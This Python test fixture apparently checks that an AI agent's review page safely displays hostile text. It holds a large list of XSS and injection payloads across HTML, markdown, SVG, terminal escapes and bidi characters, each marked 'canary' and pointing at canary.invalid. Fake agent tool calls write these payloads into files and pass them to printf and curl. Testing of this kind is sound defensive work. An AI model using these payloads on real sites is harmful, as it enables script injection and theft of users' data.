"""What an adversary would have a page of a review do: attacks as data, each with its canary.

A canary is code that runs, or a request that goes out: in each the word ``canary`` stands with the
attack's name. They are put into every place that a stranger writes: names of files, their content,
the agent's words, the task, commands and what these give.
"""

import shlex
from collections.abc import Iterator

from agent.review.opinion.asking import Reviewer
from fakes.model import Step, calls, say
from fakes.second_opinions import opinion, saying

CANARY = "canary"
_RUNS = "fetch('//canary.invalid/{0}');document.title='canary-{0}';window.canary='{0}'"
_MARKUP = {
    "script": "<script>{js}</script>",
    "script-source": "<script src=//canary.invalid/{id}></script>",
    "script-broken": "<scr<script>ipt>{js}</scr</script>ipt>",
    "script-case": "<ScRiPt\n>{js}</sCrIpT\n>",
    "script-in-title": "</title><script>{js}</script>",
    "script-in-textarea": "</textarea><script>{js}</script>",
    "script-in-style": "</style><script>{js}</script>",
    "script-in-pre": "</pre></td></tr></table><script>{js}</script>",
    "script-in-comment": "--><script>{js}</script><!--",
    "script-in-cdata": "]]><script>{js}</script>",
    "script-in-attribute": '"><script>{js}</script>',
    "script-in-quoted": "'><script>{js}</script>",
    "script-nonce": "<script nonce=x>{js}</script>",
    "script-module": "<script type=module>{js}</script>",
    "script-entity": "&lt;script&gt;{js}&lt;/script&gt;",
    "script-numbered": "&#60;script&#62;{js}&#60;/script&#62;",
    "script-null": "<\0script>{js}</\0script>",
    "script-fullwidth": "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "script-utf7": "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "image-error": '<img src=x onerror="{js}">',
    "image-unquoted": "<img/src=x/onerror={js}>",
    "image-remote": "<img src=//canary.invalid/{id}>",
    "image-set": "<img srcset='//canary.invalid/{id} 2x'>",
    "picture": "<picture><source srcset=//canary.invalid/{id}><img></picture>",
    "svg-load": '<svg onload="{js}">',
    "svg-script": "<svg><script>{js}</script></svg>",
    "svg-use": "<svg><use href='//canary.invalid/{id}#x'/></svg>",
    "svg-image": "<svg><image href='//canary.invalid/{id}'/></svg>",
    "svg-animate": '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    "math": '<math><mtext></p><img src=x onerror="{js}"></mtext></math>',
    "body-load": '<body onload="{js}">',
    "details-toggle": '<details open ontoggle="{js}"><summary>x</summary></details>',
    "input-focus": '<input autofocus onfocus="{js}">',
    "video-error": '<video><source onerror="{js}"></video>',
    "audio-remote": "<audio src=//canary.invalid/{id} autoplay>",
    "marquee": '<marquee onstart="{js}">x</marquee>',
    "frame": '<iframe src="javascript:{js}"></iframe>',
    "frame-document": '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "frame-remote": "<iframe src=//canary.invalid/{id}></iframe>",
    "object": "<object data=//canary.invalid/{id}></object>",
    "embed": "<embed src=//canary.invalid/{id}>",
    "link-style": "<link rel=stylesheet href=//canary.invalid/{id}>",
    "link-prefetch": "<link rel=prefetch href=//canary.invalid/{id}>",
    "link-preconnect": "<link rel=dns-prefetch href=//canary.invalid/{id}>",
    "style-import": "<style>@import '//canary.invalid/{id}';</style>",
    "style-background": '<b style="background:url(//canary.invalid/{id})">x</b>',
    "style-overlay": '<a href=//canary.invalid/{id} style="position:fixed;inset:0">x</a>',
    "meta-refresh": "<meta http-equiv=refresh content='0;url=//canary.invalid/{id}'>",
    "meta-policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "base": "<base href=//canary.invalid/{id}/>",
    "form": "<form action=//canary.invalid/{id}><button autofocus>x</button></form>",
    "template": "<template><script>{js}</script></template>",
    "attribute-event": '" onmouseover="{js}" x="',
    "attribute-autofocus": "' autofocus tabindex=1 onfocus='{js}",
    "clobber": "<a id=csrf name=base></a><form id=timeline name=csrf></form>",
    "clobber-meta": "<meta name=base content=//canary.invalid/{id}>",
    "dialog": "<dialog open><script>{js}</script></dialog>",
    "slot": "<x-canary><template shadowrootmode=open><script>{js}</script></template></x-canary>",
    "noscript": '<noscript><p title="</noscript><script>{js}</script>">',
    "xmp": "<xmp></xmp><script>{js}</script>",
    "xslt": '<?xml-stylesheet href="javascript:{js}"?>',
    "lazy": "<p class=lines-later data-lines=//canary.invalid/{id}>x</p>",
    "more": "<button class=more data-lines=//canary.invalid/{id} autofocus>x</button>",
    "live": "<ol id=timeline data-live=//canary.invalid/{id}></ol>",
}
_WORDS = {
    "markdown-link": "[x](javascript:{js})",
    "markdown-link-data": "[x](data:text/html,<script>{js}</script>)",
    "markdown-reference": "[x]: javascript:{js}\n\n[x]",
    "markdown-picture": "![x](//canary.invalid/{id})",
    "markdown-picture-title": '![x](x "\\" onerror=\\"{js}")',
    "markdown-autolink": "<javascript:{js}>",
    "markdown-html": "<div>\n<script>{js}</script>\n</div>",
    "markdown-code": "```<script>{js}</script>\n</code></pre><script>{js}</script>\n```",
    "markdown-table": '| <script>{js}</script> |\n|---|\n| <img src=x onerror="{js}"> |',
    "markdown-deep": "> " * 300 + "<script>{js}</script>",
    "event-stream": 'x\n\nevent: over\ndata: x\n\nevent: rows\ndata: <img src=x onerror="{js}">\n',
    "line-separators": "x\u2028<script>{js}</script>\u2029\x85\x0b\x0c",
    "right-to-left": "\u202e<script>{js}</script>\u2066\u200b\u00ad\ufeff",
    "terminal": "\x1b]0;{id}\x07\x1b[2J\x1b]8;;http://canary.invalid/{id}\x07x\x1b]8;;\x07\r",
    "patch": "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-<script>{js}</script>\n+x",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\"><script>{js}</script></svg>",
}


def attacks() -> dict[str, str]:
    """Every text by its name."""
    texts = {**_MARKUP, **_WORDS}
    return {
        name: text.replace("{js}", _RUNS.format(name)).replace("{id}", name)
        for name, text in texts.items()
    }


def steps() -> Iterator[Step]:
    """What an agent does that tries them all."""
    rows = list(attacks().items())
    for start in range(0, len(rows), 8):
        made: list[tuple[str, dict[str, object]]] = []
        for name, text in rows[start : start + 8]:
            word = shlex.quote(text.replace("\0", ""))
            made += [
                ("write_file", {"path": f"{name}/{_file_name(text)}", "content": text + "\n"}),
                ("write_file", {"path": f"{name}.svg", "content": text + "\n"}),
                ("bash", {"command": f"printf %s {word}"}),
                ("bash", {"command": f"curl {word}"}),
            ]
        yield calls(*made)
    yield say("\n\n".join(attacks().values()))


def _file_name(text: str) -> str:
    name = text.replace("/", "\u2215").replace("\0", "0")
    return name.encode()[:200].decode("utf-8", "ignore")


def reviewer() -> Reviewer:
    """One that the patch talked into all of them."""
    rows = list(attacks().items())
    concerns = [
        {"concern": text[:2000], "file": f"{name}.svg", "line": 1} for name, text in rows[:40]
    ]
    concerns += [{"concern": text[:2000], "file": text[:4000]} for _, text in rows[40:50]]
    missed = [text[:1000] for _, text in rows[50:70]]
    reason = "\n".join(text for _, text in rows[70:])[:4000]
    return saying(opinion("reject", reason=reason, concerns=concerns, missed=missed))


def task() -> str:
    return "\n".join(attacks().values())
